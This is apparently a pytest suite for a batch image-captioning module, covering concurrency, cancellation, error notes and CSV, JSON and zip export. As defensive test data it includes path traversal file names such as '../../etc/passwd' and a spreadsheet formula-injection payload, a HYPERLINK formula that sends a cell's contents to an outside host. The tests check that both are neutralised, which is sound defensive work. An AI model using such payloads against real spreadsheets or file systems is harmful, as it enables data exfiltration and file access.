"""Captions for many pictures without a page: who is asked, what is kept, and the files."""

import csv
import io
import json
import threading
import zipfile
from collections.abc import Callable, Iterator
from types import SimpleNamespace
from typing import Any

import pytest
from PIL import Image

from models.captions import FORMATS, MIME, Caption, caption_many, write
from models.errors import BadInput, EngineFailed
from models.file_names import file_names
from models.schema import ChatOptions, Delta, Done, Usage

OPTIONS = ChatOptions(seed=5)


def png(side: int = 8) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (side, side), "white").save(file, "PNG")
    return file.getvalue()


class Describer:
    """An engine that says of each picture what `says` makes of it."""

    def __init__(
        self, says: Callable[[bytes], str] = lambda picture: f"{len(picture)} bytes", slots: int = 1
    ):
        self.placement = SimpleNamespace(slots=slots)
        self.says = says
        self.asked: list[tuple[Any, ChatOptions, threading.Event]] = []
        self.now = self.most = 0
        self._lock = threading.Lock()

    def stream(self, messages: Any, options: ChatOptions, cancel: threading.Event) -> Iterator[Any]:
        with self._lock:
            self.asked.append((messages, options, cancel))
            self.now += 1
            self.most = max(self.most, self.now)
        try:
            for word in self.says(messages[0]["content"][0]["image"]).split(" "):
                yield Delta(f"{word} ")
            yield Done("cancelled" if cancel.is_set() else "stop", Usage())
        finally:
            with self._lock:
                self.now -= 1


def make(engine: Any, captions: list[Caption], cancel: threading.Event | None = None) -> list[Caption]:
    return list(caption_many(engine, captions, "What is this?", OPTIONS, cancel or threading.Event()))


def test_each_picture_without_a_caption_is_asked_about() -> None:
    engine, small, large = Describer(), png(8), png(80)
    captions = [
        Caption("a", small), Caption("b", large), Caption("c", small, text="mine"),
        Caption("d", b"", trouble=BadInput("no", "否")),
    ]  # fmt: skip
    done = make(engine, captions)
    assert {caption.name for caption in done} == {"a", "b"} and all(each in captions for each in done)
    assert [caption.text for caption in captions] == [
        f"{len(small)} bytes", f"{len(large)} bytes", "mine", "",
    ]  # fmt: skip
    asked = {messages[0]["content"][0]["image"] for messages, _, _ in engine.asked}
    assert asked == {small, large}
    (messages, options, _), *_ = engine.asked
    assert messages[0]["role"] == "user" and options is OPTIONS
    assert messages[0]["content"][1] == {"type": "text", "text": "What is this?"}


@pytest.mark.parametrize(("slots", "together"), [(1, 2), (3, 3), (9, 4)])
def test_a_few_are_asked_about_at_the_same_time(slots: int, together: int) -> None:
    meeting = threading.Barrier(together)

    def says(picture: bytes) -> str:
        meeting.wait(10)  # so many there are, and no more
        return "x"

    engine = Describer(says, slots)
    make(engine, [Caption(str(n), png()) for n in range(together * 2)])
    assert engine.most == together


def test_white_space_and_tags_are_left_out() -> None:
    captions = [Caption("a", png())]
    make(Describer(lambda picture: " <ref>a cat</ref><box>(1,2),(3,4)</box> sleeps\n"), captions)
    assert captions[0].text == "a cat sleeps"


def test_what_somebody_wrote_meanwhile_stays() -> None:
    captions = [Caption("a", png())]

    def says(picture: bytes) -> str:
        captions[0].text = "mine"
        return "theirs"

    assert make(Describer(says), captions) == captions and captions[0].text == "mine"


def test_a_picture_that_is_none_has_trouble_and_the_others_go_on() -> None:
    def says(picture: bytes) -> str:
        if picture == b"no picture":
            raise BadInput("The engine cannot read it.", "无法读取。")
        return "fine"

    captions = [Caption("a", b"no picture"), Caption("b", png())]
    make(Describer(says), captions)
    assert captions[0].text == "" and "damaged" in str(captions[0].trouble)
    assert captions[1].text == "fine" and captions[1].trouble is None


@pytest.mark.parametrize(
    "error", [BadInput("Too long a prompt.", "过长。"), EngineFailed("Broken.", "坏了。")]
)
def test_any_other_failure_ends_all(error: Exception) -> None:
    def says(picture: bytes) -> str:
        raise error

    captions, cancel = [Caption(str(n), png()) for n in range(20)], threading.Event()
    with pytest.raises(type(error), match=str(error)):
        make(engine := Describer(says), captions, cancel)
    assert cancel.is_set() and len(engine.asked) < 20
    assert not any(caption.text or caption.trouble for caption in captions)


def test_a_stopped_answer_is_no_caption_and_what_has_not_begun_does_not() -> None:
    cancel = threading.Event()

    def says(picture: bytes) -> str:
        cancel.set()
        return "half a sen"

    captions = [Caption(str(n), png()) for n in range(9)]
    make(engine := Describer(says), captions, cancel)
    assert [caption.text for caption in captions] == [""] * 9
    assert len(engine.asked) <= 2


def test_whoever_leaves_ends_the_others() -> None:
    cancel = threading.Event()
    made = caption_many(Describer(), [Caption(str(n), png()) for n in range(9)], "?", OPTIONS, cancel)  # type: ignore[arg-type]
    next(made)
    made.close()  # type: ignore[attr-defined]
    assert cancel.is_set()


# --- files -----------------------------------------------------------------------------------------


DONE = [Caption("a.png", b"1", "Ein, „Tier“\nhier"), Caption("b.png", b"2"), Caption("a.jpg", b"3", "狗")]


def test_a_table_for_spreadsheets() -> None:
    data = write(DONE, "csv", "sks, ")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [
        ["file", "caption", "note"],
        ["a.png", "sks, Ein, „Tier“\nhier", ""],
        ["a-2.jpg", "sks, 狗", ""],
    ]


def test_a_list_for_programs() -> None:
    text = write(DONE, "json").decode()
    assert json.loads(text) == [
        {"file": "a.png", "caption": "Ein, „Tier“\nhier", "note": ""},
        {"file": "a-2.jpg", "caption": "狗", "note": ""},
    ]
    assert "狗" in text


def test_pictures_and_beside_each_its_caption() -> None:
    with zipfile.ZipFile(io.BytesIO(write(DONE, "zip", "p "))) as archive:
        found = {name: archive.read(name) for name in archive.namelist()}
    assert found == {
        "a.png": b"1", "a.txt": "p Ein, „Tier“\nhier\n".encode(),
        "a-2.jpg": b"3", "a-2.txt": "p 狗\n".encode(),
    }  # fmt: skip


FAILED = [
    Caption("a.png", b"1", "a cat"),
    Caption("b.png", b"2", trouble=BadInput("=It is none.", "不是图片。")),
    Caption("c.png", b"3"),
    Caption("notes.png", b"4", "written by hand", BadInput("It is none.", "不是图片。")),
]


def test_what_failed_is_in_every_file_with_its_reason_and_no_caption() -> None:
    rows = [
        {"file": "a.png", "caption": "p a cat", "note": ""},
        {"file": "b.png", "caption": "", "note": "=It is none."},
        {"file": "notes-2.png", "caption": "p written by hand", "note": "It is none."},
    ]
    assert json.loads(write(FAILED, "json", "p ")) == rows
    safe = [rows[0], {**rows[1], "note": "'=It is none."}, rows[2]]
    assert table(write(FAILED, "csv", "p ")) == safe
    with zipfile.ZipFile(io.BytesIO(write(FAILED, "zip", "p "))) as archive:
        assert archive.namelist() == ["a.png", "a.txt", "notes-2.png", "notes-2.txt", "notes.csv"]
        assert table(archive.read("notes.csv")) == safe[1:]
    assert [row["note"] for row in json.loads(write(FAILED, "json", language="zh"))] == [
        "",
        "不是图片。",
        "不是图片。",
    ]


def table(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_every_format_has_its_type() -> None:
    assert set(FORMATS) == set(MIME) == {"csv", "json", "zip"}
    assert write([], "json") == b"[]"


@pytest.mark.parametrize(
    ("names", "safe"),
    [
        (["a.png", "A.PNG", "a.jpg"], ["a.png", "A-2.PNG", "a-3.jpg"]),
        (["a.png", "a-2.png", "a.gif"], ["a.png", "a-2.png", "a-3.gif"]),
        (["x/a.png", "y/a.png"], ["x/a.png", "y/a.png"]),
        (["../../etc/passwd", "/root/.ssh", "C:\\temp\\b.png"], ["etc/passwd", "root/.ssh", "C_/temp/b.png"]),
        (["..", "", "./."], ["picture", "picture-2", "picture-3"]),
        (["a/./b.png", "a//b.jpg"], ["a/b.png", "a/b-2.jpg"]),
        (['Who is "it"? <3.png', "a*b|c\n.png"], ["Who is _it__ _3.png", "a_b_c_.png"]),  # as Windows asks
        (
            ["con.png", "icon.png", "Aux", "com1.mp3", "context"],
            ["con_.png", "icon.png", "Aux_", "com1_.mp3", "context"],
        ),
        (["a. /b.png", "c. "], ["a/b.png", "c"]),
        (["\u00e9.png", "e\u0301.png"], ["\u00e9.png", "e\u0301-2.png"]),  # one name on a Mac
    ],
)
def test_names_stay_within_a_folder_and_apart(names: list[str], safe: list[str]) -> None:
    assert file_names(names) == safe


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝"])
def test_no_cell_is_a_formula(begin: str) -> None:
    text = f'{begin}HYPERLINK("http://elsewhere/?"&A1)'
    made = [Caption(f"{begin.strip()}1.png", b"a", text), Caption("b.png", b"b", f"a {text}")]
    _, first, second = csv.reader(io.StringIO(write(made, "csv").decode("utf-8-sig"), newline=""))
    assert first == [f"'{begin.strip()}1.png", f"'{text}", ""]
    assert second == ["b.png", f"a {text}", ""]
    assert json.loads(write(made, "json"))[0]["caption"] == text  # JSON is calculated by nobody
